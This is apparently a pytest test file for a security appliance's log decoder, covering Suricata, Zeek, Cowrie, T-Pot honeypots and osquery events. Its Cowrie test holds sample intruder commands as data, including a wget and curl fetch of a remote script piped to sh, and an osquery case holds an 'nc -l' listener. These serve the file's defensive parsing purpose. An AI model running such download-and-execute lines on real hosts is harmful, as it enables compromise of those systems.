"""Suricata, Zeek, Cowrie, the T-Pot set and osquery."""

import json

import pytest

from appliance.telemetry.decoding.registry import decoder
from appliance.telemetry.events import Bounds, Event


def one(document: dict, **options: str) -> Event:
    decoded = decoder("auto")(json.dumps(document).encode(), Bounds(), options)
    assert decoded.malformed == []
    assert len(decoded.events) == 1
    return decoded.events[0]


EVE = {"timestamp": "2026-06-06T15:59:46.457984+0200", "flow_id": 1, "src_ip": "192.0.2.1", "src_port": 5,
       "dest_ip": "192.0.2.2", "dest_port": 80, "proto": "TCP", "host": "Sensor"}  # fmt: skip


def test_a_suricata_alert_speaks_both_languages():
    alert = {"signature": "ET X", "signature_id": 7, "category": "Misc", "severity": 2, "action": "allowed"}

    event = one({**EVE, "event_type": "alert", "alert": alert, "app_proto": "http"})

    assert (event.kind, event.host, event.time) == ("suricata.alert", "sensor", 1_780_754_386_457_984)
    assert event.fields["signature"] == event.fields["alert.signature"] == "ET X"
    assert (event.fields["dst_ip"], event.fields["DestinationPort"], event.fields["SourceIp"]) == (
        "192.0.2.2",
        80,
        "192.0.2.1",
    )
    assert event.key is not None


def test_suricata_http_reads_like_a_web_servers_log():
    http = {"hostname": "h", "url": "/a/b.php?x=1", "http_method": "POST", "http_user_agent": "curl", "status": 200,
            "http_refer": "r"}  # fmt: skip

    event = one({**EVE, "event_type": "http", "http": http})

    assert {name: event.fields[name] for name in ("c-uri", "cs-uri-query", "cs-uri-stem", "c-uri-extension")} == {
        "c-uri": "/a/b.php?x=1", "cs-uri-query": "/a/b.php?x=1", "cs-uri-stem": "/a/b.php", "c-uri-extension": "php",
    }  # fmt: skip
    assert (event.fields["cs-method"], event.fields["sc-status"], event.fields["c-useragent"]) == (
        "POST",
        200,
        "curl",
    )
    assert (event.fields["cs-host"], event.fields["cs-referer"], event.fields["c-ip"]) == (
        "h",
        "r",
        "192.0.2.1",
    )


@pytest.mark.parametrize(
    "dns",
    [
        {"type": "answer", "rrname": "a.example", "rrtype": "A", "rcode": "NOERROR", "answers": [{"rdata": "192.0.2.9"}]},
        {"version": 3, "type": "response", "rcode": "NOERROR", "queries": [{"rrname": "a.example", "rrtype": "A"}],
         "answers": [{"rdata": "192.0.2.9"}]},
    ],
)  # fmt: skip
def test_suricata_dns_of_every_version_names_the_query(dns):
    event = one({**EVE, "event_type": "dns", "dns": dns})

    assert event.fields["query"] in ("a.example", ("a.example",))
    assert event.fields["answer"] == ("192.0.2.9",)
    assert event.fields["rcode"] == "NOERROR"


def test_a_resent_suricata_record_has_the_same_key_and_another_has_not():
    first, again = one({**EVE, "event_type": "flow"}), one({**EVE, "event_type": "flow"})
    other = one({**EVE, "event_type": "flow", "flow_id": 2})

    assert first.key == again.key != other.key


@pytest.mark.parametrize("spelling", ["id.orig_h", "id_orig_h"])
def test_zeek_addresses_in_either_spelling(spelling):
    document = {"ts": 1588205198.89971, "uid": "C1", spelling: "10.0.1.4", spelling.replace("orig_h", "resp_p"): 53,
                "_path": "dns", "query": "x.example", "qtype_name": "A", "answers": ["10.0.0.4"]}  # fmt: skip

    event = one(document)

    assert (event.kind, event.time) == ("zeek.dns", 1_588_205_198_899_710)
    assert (event.fields["id.orig_h"], event.fields["src_ip"], event.fields["DestinationPort"]) == (
        "10.0.1.4",
        "10.0.1.4",
        53,
    )
    assert (event.fields["QueryName"], event.fields["record_type"], event.fields["answer"]) == (
        "x.example",
        "A",
        ("10.0.0.4",),
    )


@pytest.mark.parametrize(
    ("options", "extra", "path"),
    [
        ({"filename": "/logs/SCRANTON_smb_files.log"}, {}, "smb_files"),
        ({"filename": "conn.2026-01-01-00.log.gz"}, {}, "conn"),
        ({"path": "weird"}, {}, "weird"),
        ({}, {"@stream": "kerberos"}, "kerberos"),
        ({}, {"conn_state": "SF"}, "conn"),
        ({}, {}, "unknown"),
    ],
)
def test_the_zeek_log_is_known_by_what_says_so(options, extra, path):
    assert one({"ts": 1.5e9, "uid": "C1", **extra}, **options).kind == f"zeek.{path}"


COWRIE = {
    "timestamp": "2026-06-15T04:05:23.632473Z",
    "src_ip": "192.0.2.1",
    "session": "b6",
    "sensor": "Pot1",
}


@pytest.mark.parametrize(
    ("typed", "image"),
    [
        ("wget http://192.0.2.9/x.sh", "/wget"),
        ("/bin/busybox wget http://x/y", ("/bin/busybox", "/wget")),
        ("cd /tmp; curl -O http://x/y && chmod +x y | sh", ("/cd", "/curl", "/chmod", "/sh")),
        ("A=1 sudo -u x ./run", ("/sudo", "/x")),
        ("", None),
    ],
)
def test_what_an_intruder_types_reads_like_a_process(typed, image):
    event = one({**COWRIE, "eventid": "cowrie.command.input", "input": typed})

    assert (event.kind, event.code, event.host) == ("cowrie.command", "cowrie.command.input", "pot1")
    assert event.fields["CommandLine"] == typed
    assert event.fields.get("Image") == image


@pytest.mark.parametrize(
    ("eventid", "kind"),
    [
        ("cowrie.login.failed", "cowrie.login"),
        ("cowrie.login.success", "cowrie.login"),
        ("cowrie.session.file_download", "cowrie.download"),
        ("cowrie.session.file_upload", "cowrie.upload"),
        ("cowrie.session.connect", "cowrie.session"),
        ("cowrie.direct-tcpip.request", "cowrie.direct-tcpip"),
    ],
)
def test_cowrie_events_have_kinds(eventid, kind):
    event = one({**COWRIE, "eventid": eventid, "username": "u", "password": "p", "shasum": "ab"})

    assert event.kind == kind
    assert event.fields["SourceIp"] == "192.0.2.1"


@pytest.mark.parametrize(
    ("pot", "document"),
    [
        ("dionaea", {"type": "Dionaea", "src_ip": "192.0.2.1", "dst_port": 445, "@timestamp": "2026-01-01T00:00:00Z"}),
        ("dionaea", {"connection": {"protocol": "smbd"}, "src_ip": "192.0.2.1", "dst_port": 445}),
        ("elasticpot", {"eventid": "elasticpot.attack", "src_ip": "192.0.2.1", "timestamp": "2026-01-01T00:00:00Z"}),
        ("adbhoney", {"eventid": "adbhoney.command.input", "input": "wget x", "src_ip": "192.0.2.1"}),
        ("wordpot", {"plugin": "x", "src_ip": "192.0.2.1", "url": "/wp-login.php"}),
        ("redishoneypot", {"action": "NewConnect", "addr": "192.0.2.1:6000", "msg": "", "level": "info"}),
        ("mailoney", {"timestamp": "2026-01-01T00:00:00Z", "src_ip": "192.0.2.1", "src_port": 1, "data": "EHLO"}),
        ("sentrypeer", {"app_name": "sentrypeer", "source_ip": "192.0.2.1", "called_number": "1"}),
        ("honeytrap", {"attack_connection": {"remote_ip": "192.0.2.1", "local_port": 81}, "proxy_connection": {}}),
        ("heralding", {"session_id": "s", "auth_attempts": [{"username": "u", "password": "p"}], "num_auth_attempts": 1,
                       "source_ip": "192.0.2.1"}),
        ("tanner", {"peer": {"ip": "192.0.2.1", "port": 5}, "path": "/x", "headers": {}, "uuid": "u", "method": "GET"}),
        ("conpot", {"sensorid": "s", "src_ip": "192.0.2.1", "data_type": "modbus", "timestamp": "2026-01-01T00:00:00"}),
    ],
)  # fmt: skip
def test_every_honeypot_is_known_and_names_its_attacker(pot, document):
    event = one(document)

    assert event.kind == f"honeypot.{pot}"
    assert event.fields["src_ip"] == event.fields["SourceIp"] == "192.0.2.1"


def test_osquery_results_of_both_kinds():
    differential = one({"name": "pack/x/process_events", "hostIdentifier": "H1", "unixTime": 1760220855,
                        "action": "added", "columns": {"cmdline": "nc -l", "path": "/bin/nc", "pid": "1"}})  # fmt: skip
    snapshot = one({"name": "users", "hostIdentifier": "h1", "unixTime": "1760220855", "action": "snapshot",
                    "snapshot": [{"username": "a"}, {"username": "b"}]})  # fmt: skip

    assert (differential.kind, differential.host) == ("osquery.process_events", "h1")
    assert (differential.fields["CommandLine"], differential.fields["Image"]) == ("nc -l", "/bin/nc")
    assert snapshot.fields["snapshot.username"] == ("a", "b")
    assert differential.time == snapshot.time == 1_760_220_855_000_000
